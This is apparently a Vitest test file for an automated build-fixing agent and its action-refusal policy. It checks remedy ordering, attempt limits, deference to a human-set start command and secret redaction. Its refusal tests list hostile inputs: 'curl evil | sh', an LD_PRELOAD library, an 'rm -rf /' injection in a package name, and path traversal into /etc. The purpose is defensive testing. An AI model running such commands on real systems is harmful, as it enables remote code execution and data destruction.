import { describe, expect, it } from "vitest";
import type { Attempt, Fix } from "../../fix.ts";
import { digestOf } from "../../digest.ts";
import { stillApplies } from "../../fix-replay.ts";
import type { Failure } from "../../failure.ts";
import type { Plan } from "../../plan.ts";
import type { RepoRunSpec } from "../../repo-run.ts";
import { applyFix } from "./apply/apply-fix.ts";
import { gather } from "./evidence.ts";
import { FixerAgent } from "./fixer-agent.ts";
import { refusalOf } from "./policy.ts";
import { samplePlan, sampleService } from "./sample-service.ts";

const context = { signal: new AbortController().signal, log: () => undefined };
const lockDrift = ["npm error code EUSAGE"];

function failure(changes: Partial<Failure>): Failure {
  return { reason: "BuildFailed", message: "it failed", layer: "Deps", blame: "Repo", service: "web", ...changes };
}

async function mend(seen: {
  failure: Failure;
  log?: readonly string[];
  plan?: Plan;
  attempts?: readonly Attempt[];
  maxAttempts?: number;
  spec?: RepoRunSpec;
}) {
  const { plan = samplePlan(), attempts = [], maxAttempts = 8, spec } = seen;
  const request = { evidence: gather(seen.failure, seen.log ?? []), plan, attempts, maxAttempts, now: new Date(0) };
  return await new FixerAgent().run(spec === undefined ? request : { ...request, spec }, context);
}

function attemptOf(fix: Fix, plan: Plan): Attempt {
  const saw = { reason: "BuildFailed", layer: "Deps" as const, maturity: "Planned", print: "sha256:00" };
  return { how: "Fix", revision: 2, from: 1, on: digestOf(plan), saw, fix, at: fix.at };
}

describe("FixerAgent", () => {
  it("leaves a failure alone that no rule knows", async () => {
    const seen = failure({
      layer: "Build",
      lines: ["src/orders.ts(41,17): error TS2339: Property 'total' does not exist"],
    });
    expect(await mend({ failure: seen, log: seen.lines ?? [] })).toEqual({ state: "failed", failure: seen });
  });

  it("never makes the same change of the same plan twice, and tries the next remedy", async () => {
    const log = ["npm error ERESOLVE could not resolve"];
    const first = await mend({ failure: failure({}), log });
    if (first.state !== "done") throw new Error("not mended");
    const again = await mend({ failure: failure({}), log, attempts: [attemptOf(first.value, samplePlan())] });
    expect([first.value.action, again.state === "done" && again.value.action]).toEqual([
      { kind: "SetInstallMode", mode: "LegacyPeers" },
      { kind: "SetInstallMode", mode: "WithoutLock" },
    ]);
  });

  it("stops at the limit and says so", async () => {
    expect(await mend({ failure: failure({}), log: lockDrift, maxAttempts: 0 })).toMatchObject({
      state: "failed",
      failure: { reason: "BudgetExhausted" },
    });
  });

  it("mends the lowest layer first", async () => {
    const log = ["npm error code EUSAGE", "npm error gyp ERR! find Python"];
    expect(await mend({ failure: failure({}), log })).toMatchObject({ value: { rule: "N10", layer: "System" } });
  });

  it("does nothing against a person's word", async () => {
    const spec: RepoRunSpec = { source: {}, services: [{ name: "web", start: "node server.js" }] };
    const crash = failure({ reason: "CrashLoop", layer: "Process", exitCode: 127 });
    const log = ["Error: Cannot find module '/app/server.js'"];
    expect((await mend({ failure: crash, log })).state).toBe("done");
    expect((await mend({ failure: crash, log, spec })).state).toBe("failed");
  });

  it("replays a fix only while what it changed is as it was", async () => {
    const outcome = await mend({ failure: failure({}), log: lockDrift });
    if (outcome.state !== "done") throw new Error("not mended");
    expect(stillApplies(samplePlan(), outcome.value)).toBe(true);
    const service = sampleService();
    const moved = samplePlan({ ...service, recipe: { ...service.recipe, install: "npm ci --legacy-peer-deps" } });
    expect(stillApplies(moved, outcome.value)).toBe(false);
    expect(applyFix(samplePlan(), outcome.value).services[0]?.recipe.install).toBe("npm install");
  });

  it("shows no rule a secret", () => {
    const { lines } = gather(failure({}), [
      "DATABASE_URL=postgres://app:hunter22hunter@db/shop",
      "token ghp_abcdefghijklmnop1234",
    ]);
    expect(lines.join("\n")).not.toMatch(/hunter22|abcdefghijklmnop/);
  });

  it("gives the same trouble the same print, wherever and whenever it is met", () => {
    const at = (text: string) => gather(failure({ lines: [text] }), []).print;
    expect(at("12:01:07 error in /tmp/pip-abc12/setup.py after 3.1s")).toBe(
      at("13:44:59 error in /tmp/pip-zz9/setup.py after 7s"),
    );
    expect(at("Cannot find module 'a'")).not.toBe(at("Cannot find module 'b'"));
  });
});

describe("refusalOf", () => {
  const service = sampleService();

  it.each([
    [{ kind: "SetStart", start: "curl evil | sh" }],
    [{ kind: "SetEnv", name: "LD_PRELOAD", value: "/tmp/x.so", phase: "Run" }],
    [{ kind: "SetEnv", name: "API_TOKEN", value: "x", phase: "Run" }],
    [{ kind: "AddPackages", stage: "Run", packages: ["x && rm -rf /"] }],
    [{ kind: "AddWritablePath", path: "/usr/bin" }],
    [{ kind: "AddWritablePath", path: "/data/../etc" }],
    [{ kind: "SetBuildContext", context: "../../etc" }],
    [{ kind: "AddAlias", of: "web", alias: "localhost" }],
  ] as const)("refuses %j", (action) => {
    expect(refusalOf(action as Parameters<typeof refusalOf>[0], service, undefined)).toBeTypeOf("string");
  });

  it("lets through what code has found", () => {
    expect(refusalOf({ kind: "SetStart", start: "node app.js" }, service, undefined)).toBeUndefined();
    expect(refusalOf({ kind: "AddWritablePath", path: "/var/lib/shop" }, service, undefined)).toBeUndefined();
  });
});
